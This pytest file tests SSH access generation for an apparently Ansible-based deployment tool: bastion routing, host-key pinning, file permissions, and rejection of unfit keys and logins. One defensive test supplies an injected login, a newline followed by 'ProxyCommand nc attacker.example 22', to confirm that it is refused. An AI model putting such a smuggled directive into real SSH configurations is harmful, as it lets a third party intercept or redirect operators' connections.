"""The operators' way to an environment's hosts is written from its topology by every run (playbooks/validate.yml,
playbooks/tasks/ssh-config.yml): the bastion on its public address, every other host through it, each host's key
checked under its name. Keys missing, unknown or unfit stop the run before any host is touched (ENV: each environment its own keys and way in)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from test_environments import validate

from rempart import hostkeys
from rempart import topology as model

pytestmark = pytest.mark.ENV
DEV_KEYS = yaml.safe_load((model.INVENTORIES / "dev" / "group_vars/all/host_keys.yml").read_text())["rempart_ssh_host_keys"]
DEV_USER = yaml.safe_load((model.INVENTORIES / "dev" / "group_vars/all/connection.yml").read_text())["ansible_user"]


def write(operator_dir: Path, *args: str, inventory: str = "inventories/dev") -> subprocess.CompletedProcess:
    return validate("-i", inventory, "-e", "rempart_target=dev", "-e", f"rempart_operator_dir={operator_dir}", *args)


def resolved(operator_dir: Path, name: str) -> dict[str, str]:
    """What ssh makes of the generated ssh_config for ``name`` (ssh -G: nothing is connected)."""
    out = subprocess.run(["ssh", "-G", "-F", str(operator_dir / "ssh_config"), name],
                         capture_output=True, text=True, check=True).stdout
    return dict(line.split(" ", 1) for line in out.splitlines() if " " in line)


def known(operator_dir: Path, name: str) -> str:
    """The key known_hosts holds for ``name``, as ssh looks it up."""
    found = subprocess.run(["ssh-keygen", "-F", name, "-f", str(operator_dir / "known_hosts")],
                           capture_output=True, text=True, check=False).stdout
    return " ".join(line.split(None, 1)[1] for line in found.splitlines() if not line.startswith("#"))


@pytest.fixture(scope="module")
def dev_dir(tmp_path_factory) -> Path:
    operator_dir = tmp_path_factory.mktemp("operator") / ".dev"
    result = write(operator_dir)
    assert result.returncode == 0, result.stdout + result.stderr
    return operator_dir


def test_the_bastion_is_reached_on_its_public_address_and_every_other_host_through_it(dev_dir):
    dev = model.check(model.INVENTORIES / "dev" / model.TOPOLOGY_FILE)
    for host, spec in dev["hosts"].items():
        bastion = "bastion" in spec["functions"]
        for name in (host, *((str(spec["public"]),) if bastion else (str(spec["overlay"]), str(spec["underlay"])))):
            seen = resolved(dev_dir, name)
            assert seen["hostkeyalias"] == host, (name, seen)
            assert seen["user"] == DEV_USER
            assert seen["stricthostkeychecking"] == "true"
            assert seen["userknownhostsfile"] == str(dev_dir / "known_hosts")
            if bastion:
                assert seen["hostname"] == str(spec["public"]) and "proxycommand" not in seen, (name, seen)
            else:
                assert seen["proxycommand"] == f"ssh -F {dev_dir}/ssh_config -W %h:%p %r@bastion1", (name, seen)
                assert seen["hostname"] == (str(spec["overlay"]) if name == host else name), (name, seen)


def test_each_host_key_is_known_under_the_host_name_only(dev_dir):
    for name, key in DEV_KEYS.items():
        assert known(dev_dir, name) == key
    dev = model.check(model.INVENTORIES / "dev" / model.TOPOLOGY_FILE)
    # The addresses are no names in known_hosts: a key is trusted for the host the ssh_config sends it to.
    assert known(dev_dir, str(dev["hosts"]["db1"]["overlay"])) == ""


def test_an_outside_prober_is_reached_directly_as_its_user(dev_dir):
    dev = model.check(model.INVENTORIES / "dev" / model.TOPOLOGY_FILE)
    (prober,) = model.outside_probers(dev)
    seen = resolved(dev_dir, prober)
    assert "proxycommand" not in seen and seen["hostname"] == prober and seen["hostkeyalias"] == prober
    assert known(dev_dir, prober) == DEV_KEYS[prober]


def test_the_files_are_the_operator_s_only(dev_dir):
    assert dev_dir.stat().st_mode & 0o777 == 0o700
    for name in ("ssh_config", "known_hosts"):
        assert (dev_dir / name).stat().st_mode & 0o777 == 0o600


def test_a_run_limited_to_one_host_writes_them_too(tmp_path):
    limited = write(tmp_path / ".dev", "--limit", "db1")
    assert limited.returncode == 0, limited.stdout
    assert resolved(tmp_path / ".dev", "db1")["hostkeyalias"] == "db1"


def test_a_second_run_changes_nothing(dev_dir):
    again = write(dev_dir)
    assert again.returncode == 0 and not re.search(r"changed=[1-9]", again.stdout), again.stdout


def test_a_host_added_to_the_topology_is_reached_by_the_run_that_adds_it_once_its_key_is_recorded(tmp_path):
    shutil.copytree(model.INVENTORIES, tmp_path / "inventories")
    dev = tmp_path / "inventories" / "dev"
    topology = dev / model.TOPOLOGY_FILE
    topology.write_text(topology.read_text().replace(
        "  db2: {", "  app3: {site: dc2, zone: application, functions: [app], underlay: 192.0.2.23, overlay: 192.0.2.87}\n  db2: {"))
    refused = write(tmp_path / ".dev", inventory=str(dev))
    assert refused.returncode != 0
    assert "rempart_ssh_host_keys has no key for app3" in " ".join(refused.stdout.split()), refused.stdout
    assert not (tmp_path / ".dev" / "ssh_config").exists()

    keys = dev / "group_vars/all/host_keys.yml"
    keys.write_text(keys.read_text() + f"  app3: {DEV_KEYS['app1']}\n")
    added = write(tmp_path / ".dev", inventory=str(dev))
    assert added.returncode == 0, added.stdout
    assert resolved(tmp_path / ".dev", "app3")["hostname"] == "192.0.2.87"
    assert known(tmp_path / ".dev", "app3") == DEV_KEYS["app1"]


BAD_KEYS = {
    "missing": ({"db1": DEV_KEYS["db1"]}, "rempart_ssh_host_keys has no key for app1, app2, bastion1, db2"),
    "unknown": ({**DEV_KEYS, "db3": DEV_KEYS["db1"]}, "rempart_ssh_host_keys names db3, which the topology does not hold"),
    "truncated": ({**DEV_KEYS, "db1": DEV_KEYS["db1"][:-8]}, "rempart_ssh_host_keys.db1 is no whole ssh-ed25519 or ssh-rsa public key"),
    "private": ({**DEV_KEYS, "db1": "-----BEGIN OPENSSH PRIVATE KEY-----"}, "rempart_ssh_host_keys.db1 is no whole"),
    "not-a-mapping": (["ssh-ed25519 AAAA"], "rempart_ssh_host_keys must map each host's name to its public key (`db1: ssh-ed25519 AAAA...`), not a list"),
}


@pytest.mark.parametrize(("keys", "named"), BAD_KEYS.values(), ids=BAD_KEYS.keys())
def test_unfit_keys_are_named_with_the_file_and_the_fix(keys, named):
    where = "inventories/dev/group_vars/all/host_keys.yml"
    dev = model.check(model.INVENTORIES / "dev" / model.TOPOLOGY_FILE)
    (problem,) = hostkeys.problems(keys, sorted(dev["hosts"]) + model.outside_probers(dev), where)
    assert problem.startswith(f"{where}: {named}"), problem


def test_an_unfit_key_stops_the_run_before_any_host_with_that_message(tmp_path):
    keys, named = BAD_KEYS["truncated"]
    result = write(tmp_path / ".dev", "-e", json.dumps({"rempart_ssh_host_keys": keys}))
    message = " ".join(result.stdout.split())
    assert result.returncode != 0
    assert "inventories/dev/group_vars/all/host_keys.yml: " + named in message, message
    assert "Traceback" not in result.stdout + result.stderr
    assert not (tmp_path / ".dev").exists()


@pytest.mark.parametrize(("given", "named"), [
    ({"ansible_user": "ops\n    ProxyCommand nc attacker.example 22"}, "The SSH logins must be plain user names"),
    ({"outside_ansible_user": "ops\n"}, "The SSH logins must be plain user names"),
    ({"rempart_ssh_identity_file": "/keys/id %h"}, "the paths must hold no space, quote or '%'"),
], ids=["login-with-a-directive", "login-with-a-newline", "identity-with-a-token"])
def test_a_login_or_path_that_would_change_the_ssh_config_stops_the_run(tmp_path, given, named):
    result = write(tmp_path / ".dev", "-e", json.dumps(given))
    assert result.returncode != 0
    assert named in " ".join(result.stdout.split()), result.stdout
    assert not (tmp_path / ".dev").exists()


@pytest.mark.parametrize(
    ("line", "fit"),
    [
        (DEV_KEYS["db1"], True),
        (DEV_KEYS["db1"] + " root@db1", True),
        (DEV_KEYS["db1"].replace("ssh-ed25519", "ssh-rsa"), False),  # the type outside is not the one inside
        ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDMW", False),  # the type and a piece of the key
        ("ssh-ed25519 not-base64!", False),
        ("ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTY=", False),  # a type sshd does not serve
        ("ssh-ed25519", False),
    ],
    ids=["ed25519", "with-comment", "type-mismatch", "truncated", "not-base64", "nist-curve", "type-only"],
)
def test_a_host_key_is_whole_and_of_a_type_sshd_serves(line, fit):
    assert hostkeys.is_public_key(line) is fit
